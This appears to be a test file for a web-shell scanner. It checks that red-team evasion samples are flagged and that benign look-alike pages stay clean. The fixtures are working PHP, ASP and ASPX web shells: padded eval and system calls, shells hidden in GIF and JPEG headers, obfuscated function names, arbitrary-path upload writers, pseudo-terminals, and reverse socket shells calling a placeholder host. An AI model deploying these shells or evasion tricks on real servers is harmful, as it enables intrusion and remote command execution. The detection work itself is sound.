import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 30: what session 29's third red team left open (bench/redteam/README-s29w.md), each shell written
// here: padding the languages read as white space or as nothing and the rules' \s does not (a byte-order
// mark, VBScript's line continuations), padding in the code only PHP 7 runs, and padding past the bounds of
// the analysers' own patterns.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const pad = (p: string, n = 5000) => p.repeat(Math.ceil(n / p.length));
// (UTF-8 bytes written as latin1 characters, as the scanner reads them)
const BOM = '\u00ef\u00bb\u00bf';
const ZWSP = '\u00e2\u0080\u008b';

// [what, path, the file]
const CAUGHT: [string, string, string][] = [
  ['S29W-10: a JScript eval padded with byte-order marks', '/www/e.aspx', `<%@ Page Language="Jscript" %><% eval(${pad(BOM)}Request.Item["z"], "unsafe"); %>`],
  ['S29W-10: a JScript eval padded with 5,000 byte-order marks', '/www/e2.aspx', `<%@ Page Language="Jscript" %><% eval(${BOM.repeat(5000)}Request.Item["z"], "unsafe"); %>`],
  ['a C# name split by zero-width spaces', '/www/z.aspx', `<%@ Page Language="C#" %><% var p = new System.Diagnostics.Pro${ZWSP}cess(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>`],
  ['S29W-12: Execute( spread over VBScript continuation lines', '/www/v.asp', `<% Execute(${pad(' '.repeat(60) + '_\r\n')}Request("c")) %>`],
  ['S29W-12: eval and its argument on continuation lines', '/www/v2.asp', `<%\r\neval${pad(' '.repeat(60) + '_\r\n')}(request("c"))\r\n%>`],
  ['S29W-13: a call padded past 4 KB in a GIF, in code only PHP 7 runs', '/www/up/a.gif', `GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000<?=\u0001system(${pad(' ')}$_GET[c])?>`],
  ['S29W-13: the same with tabs in a JPEG', '/www/up/a.jpg', `\u00ff\u00d8\u00ff\u00e0<?=\u0001eval(${pad('\t')}$_POST[c])?>\u00ff\u00d9`],
  ['S29W-13: a PHP file with a control byte, its sink padded', '/www/a.php', `<?php \u0001 $a = $_GET[c]; system(${pad(' ')}$a);`],
  ['request input held in a variable, the sink padded past the analysers\' bounds', '/www/b.php', `<?php $a = $_GET['c']; system(${pad(' ')}$a);`],
  ['S29W-14: the same in a .txt that an include runs', '/www/inc/c.txt', `<?php $a = $_GET['c']; system(${pad(' ')}$a);`],
  ['a padded eval of a decoded POST field', '/www/d.php', `<?php @eval(base64_decode($_POST[${pad(' ', 20000)}'x']));`],
];

// Session 30's red team (bench/redteam/README-s30.md): runs under the squeezed layer's old bound (1,024) inside
// a statement, padding inside an index, comments there, and right sides longer than the flow pass read. Each
// written here as the red team did. [id, path, the file]
const sp = (n: number) => ' '.repeat(n);
const RED_TEAM: [string, string, string][] = [
  ['S30R-1: 100 spaces each side of an index', '/www/q01.php', `<?php $a=$_GET[${sp(100)}'c'${sp(100)}]; system($a);`],
  ['S30R-1: 500 spaces before an index\'s key', '/www/q01b.php', `<?php $a=$_GET[${sp(500)}'c']; system($a);`],
  ['S30R-2: a comment inside the index', '/www/q16.php', `<?php $a=$_GET[/*${'x'.repeat(100)}*/'c']; system($a);`],
  ['S30R-2: comment lines inside the index', '/www/q17.php', `<?php $a=$_GET[\n${'#\n'.repeat(60)}'c']; system($a);`],
  ['S30R-3: a cookie to shell_exec', '/www/q11.php', `<?php $c=$_COOKIE[${sp(200)}'c']; echo shell_exec($c);`],
  ['S30R-3: a field written to a PHP file', '/www/q10.php', `<?php $d=$_POST[${sp(200)}'d']; file_put_contents('x.php',$d);`],
  ['S30R-3: a key held in a variable', '/www/q12.php', `<?php $k='c'; $a=$_GET[${sp(200)}$k]; system($a);`],
  ['S30R-5: 700 empty literals joined before the input', '/www/q13.php', `<?php $a=${"''.".repeat(700)}$_GET['c']; system($a);`],
  ['S30R-5: the same with 60 spaces after each', '/www/q03.php', `<?php $a=${`''.${sp(60)}`.repeat(60)}$_GET['c']; system($a);`],
  ['S30R-6: a long literal joined before the input', '/www/q14.php', `<?php $a='${'x'.repeat(2100)}'.$_GET['c']; system($a);`],
  ['S30R-7: a condition padded with runs under 1,024', '/www/q15.php', `<?php $a=isset($_GET['c']) ?${sp(1000)}$_GET['c']${sp(1000)}:''; system($a);`],
  ['S30R-10: a JScript index padded', '/www/js07.aspx', `<%@ Page Language="Jscript" %><% var z = Request.Item[${sp(200)}"z"]; eval(z, "unsafe"); %>`],
  ['S30R-11: a VBScript argument padded', '/www/v02.asp', `<% x = Request(${sp(200)}"x") : Execute(x) %>`],
];

// What the red teams of session 29 left open in the rules (S29U-30, S29U-44, S29W-20 to S29W-26), written
// here: [what, the rule, path, the file]
const RULED: [string, string, string, string][] = [
  ['S29U-40: implode of one argument', 'mamori_php_joined_name_call', '/www/a1.php', `<?php
$p = ['s', 'y', 's', 't', 'e', 'm'];
implode($p)($_GET['q']);
`],
  ['S29U-41: implode with named arguments', 'mamori_php_joined_name_call', '/www/a2.php', `<?php
$p = ['s', 'y', 's', 't', 'e', 'm'];
implode(separator: '', array: $p)($_GET['q']);
`],
  ['S29U-42: a comment between the arguments of implode', 'mamori_php_joined_name_call', '/www/a3.php', `<?php
$p = ['s', 'y', 's', 't', 'e', 'm'];
implode('', /* x */ $p)($_GET['q']);
`],
  ['S29U-43: the pieces merged from two arrays', 'mamori_php_joined_name_call', '/www/a4.php', `<?php
$p = [['s', 'y', 's'], ['t', 'e', 'm']];
implode('', array_merge($p[0], $p[1]))($_GET['q']);
`],
  ['S29U-45: the pieces in a property', 'mamori_php_joined_name_call', '/www/a5.php', `<?php
class C { public $p = ['s', 'y', 's', 't', 'e', 'm']; }
$c = new C;
implode('', $c->p)($_GET['q']);
`],
  ['S29U-46: the pieces in a constant', 'mamori_php_joined_name_call', '/www/a8.php', `<?php
const P = ['s', 'y', 's', 't', 'e', 'm'];
implode('', P)($_GET['q']);
`],
  ['S29U-47: the pieces folded by array_reduce', 'mamori_php_joined_name_call', '/www/a11.php', `<?php
$p = ['s', 'y', 's', 't', 'e', 'm'];
array_reduce($p, fn($a, $b) => $a . $b, '')($_GET['q']);
`],
  ['S29U-30: File.Create of a form field, the upload copied in', 'mamori_aspx_upload_to_request_path', '/www/u30.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  if (Request.HttpMethod == "POST" && Request.Files.Count > 0) {
    using (var fs = File.Create(Request.Form["p"])) { Request.Files[0].InputStream.CopyTo(fs); }
    Response.Write("ok");
  }
}
</script>
<form method="post" enctype="multipart/form-data"><input name="p"><input type="file" name="f"><input type="submit"></form>
`],
  ['S29U-30: a FileStream on a query field, the request body copied in', 'mamori_aspx_upload_to_request_path', '/www/u30b.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string path = Request.QueryString["to"];
  if (path != null) { var fs = new System.IO.FileStream(path, System.IO.FileMode.Create); Request.InputStream.CopyTo(fs); fs.Close(); Response.Write("saved " + path); }
}
</script>
`],
  ['S29U-30: File.WriteAllBytes to a request field, the upload read', 'mamori_aspx_upload_to_request_path', '/www/u30c.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count > 0) { System.IO.File.WriteAllBytes(Request["to"], new System.IO.BinaryReader(Request.Files[0].InputStream).ReadBytes(Request.Files[0].ContentLength)); }
}
</script>
`],
  ['S29W-20: a socket shell through ComSpec and String.Concat, its output written by a StreamWriter', 'mamori_aspx_socket_shell', '/www/sock1.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var c = new TcpClient("192.0.2.20", 8443); var ns = c.GetStream();
  var rd = new StreamReader(ns); var wr = new StreamWriter(ns); wr.AutoFlush = true;
  string line;
  while ((line = rd.ReadLine()) != null) {
    var psi = new ProcessStartInfo(Environment.GetEnvironmentVariable("ComSpec"), String.Concat("/c ", line));
    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
    var p = Process.Start(psi);
    wr.Write(p.StandardOutput.ReadToEnd());
  }
}
</script>
`],
  ['S29W-20, S29W-21: a socket shell through PowerShell by its full path, its output copied to the socket', 'mamori_aspx_socket_shell', '/www/sock2.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) using (var rd = new StreamReader(ns)) {
    string line;
    while ((line = rd.ReadLine()) != null) {
      var p = new Process();
      p.StartInfo.FileName = @"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
      p.StartInfo.Arguments = "-c " + line;
      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
      p.StandardOutput.BaseStream.CopyTo(ns);
    }
  }
}
</script>
`],
  ['S29W-24: a pseudo-terminal written with if/elseif', 'mamori_php_pseudo_terminal', '/www/pt1.php', `<?php
session_start();
$line = trim($_POST['line'] ?? '');
$parts = explode(' ', $line, 2);
$verb = $parts[0]; $arg = $parts[1] ?? '';
$cwd = $_SESSION['cwd'] ?? getcwd();
if ($verb === 'ls') { echo implode("\\n", scandir($cwd)); }
elseif ($verb === 'cd') { if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); }
elseif ($verb === 'cat') { readfile("$cwd/$arg"); }
elseif ($verb === 'rm') { unlink("$cwd/$arg"); }
elseif ($verb === 'mkdir') { mkdir("$cwd/$arg"); }
elseif ($verb === 'put') { file_put_contents("$cwd/" . basename($_FILES['f']['name']), file_get_contents($_FILES['f']['tmp_name'])); }
echo '<form method="post"><input name="line" autofocus></form>';
`],
  ['S29W-25, S29W-26: a pseudo-terminal written with match, its words read from php://input', 'mamori_php_pseudo_terminal', '/www/pt2.php', `<?php
session_start();
[$verb, $arg] = array_pad(explode(' ', trim(file_get_contents('php://input')), 2), 2, '');
chdir($_SESSION['cwd'] ?? __DIR__);
echo match ($verb) {
  'ls', 'dir' => implode("\\n", scandir('.')),
  'cd' => ($_SESSION['cwd'] = realpath($arg)) ? 'ok' : 'no',
  'cat' => file_get_contents($arg),
  'rm' => unlink($arg) ? 'deleted' : 'failed',
  'rmdir' => rmdir($arg) ? 'deleted' : 'failed',
  'pwd' => getcwd(),
  default => 'unknown command',
};
`],
  ['S29U-44: a joined call of the pieces reversed', 'mamori_php_joined_name_call', '/www/jc1.php', `<?php
$p = array("m", "e", "t", "s", "y", "s");
implode('', array_reverse($p))($_GET['q']);
`],
];

// [what, path, the file]: the layers and rules must not make these anything
const BENIGN: [string, string, string][] = [
  ['an ASP.NET upload saved under a fixed folder with the upload\'s own file name', '/www/up.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count > 0) {
    var f = Request.Files[0];
    var name = System.IO.Path.GetFileName(f.FileName);
    using (var fs = System.IO.File.Create(System.IO.Path.Combine(Server.MapPath("~/App_Data/uploads"), name))) { f.InputStream.CopyTo(fs); }
  }
}
</script>`],
  ['an ASP.NET page that pings a host the admin types and shows the output', '/www/ping.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Ping_Click(object s, EventArgs e) {
  var psi = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 2 " + System.Net.IPAddress.Parse(Host.Text));
  psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
  using (var p = System.Diagnostics.Process.Start(psi)) { Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); }
}
</script>`],
  ['a PHP help page dispatching documentation topics named like commands', '/www/help.php', `<?php
$topic = $_GET['topic'] ?? 'index';
if ($topic === 'ls') { $doc = 'ls lists a folder.'; }
elseif ($topic === 'cd') { $doc = 'cd changes the working folder.'; }
elseif ($topic === 'rm') { $doc = 'rm deletes a file.'; }
elseif ($topic === 'mkdir') { $doc = 'mkdir makes a folder.'; }
elseif ($topic === 'cat') { $doc = 'cat prints a file.'; }
else { $doc = 'Pick a topic.'; }
echo '<p>' . htmlspecialchars($doc) . '</p>';
`],
  ['a page that joins names for display and sums with array_reduce', '/www/names.php', `<?php
$names = ['ann', 'bob', 'cy'];
echo implode(', ', $names);
$total = array_reduce([1, 2, 3], fn($a, $b) => $a + $b, 0);
$page = preg_replace('/\W/', '', $_GET['p'] ?? 'home');
$view = implode('', ['render_', $page]);
if (function_exists($view)) { $view($_GET); }
`],
  ['a VBScript page whose long statements are continued', '/www/report.asp', `<%\r\nDim sql\r\nsql = "SELECT name, total " & _\r\n      "FROM orders " & _\r\n      "WHERE day = ?"\r\nSet cmd = Server.CreateObject("ADODB.Command")\r\ncmd.CommandText = sql\r\nResponse.Write "ok"\r\n%>`],
  ['a C# page saved with a byte-order mark, padded with blank lines', '/www/default.aspx', `${BOM}<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {${pad('\r\n')}  Label1.Text = Request.QueryString["name"] == null ? "" : Server.HtmlEncode(Request.QueryString["name"]);\r\n}\r\n</script>`],
  ['a PHP template with a long indented blank block', '/www/tpl.php', `<?php $title = htmlspecialchars($_GET['t'] ?? '');${pad('    \n')}echo "<h1>$title</h1>";`],
  ['a text file of spaced-out PHP examples', '/www/docs/howto.txt', `Run this:${pad(' ')}<?php echo date('Y-m-d'); ?> and then the page shows the date.`],
];

describe('scan: session 30, what session 29\'s red team left open', () => {
  for (const [name, path, src] of CAUGHT) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of RED_TEAM) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, rule, path, src] of RULED) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`clean: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(CAUGHT.length, 11);
    assert.equal(RULED.length, 15);
    assert.equal(RED_TEAM.length, 13);
    assert.equal(BENIGN.length, 8);
  });
});
